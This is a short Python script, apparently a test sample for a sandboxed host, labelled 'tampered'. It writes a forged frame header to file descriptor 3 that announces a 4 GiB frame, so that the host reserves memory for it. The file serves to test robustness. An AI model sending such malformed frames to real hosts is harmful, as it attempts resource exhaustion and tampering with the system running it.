# outcome: tampered
# tries: announce a frame of 4 GiB, so that the host makes room for it

import os

os.write(3, b"\xff\xff\xff\xff\xff\xff\xff\xff" + b"{}")
os._exit(0)
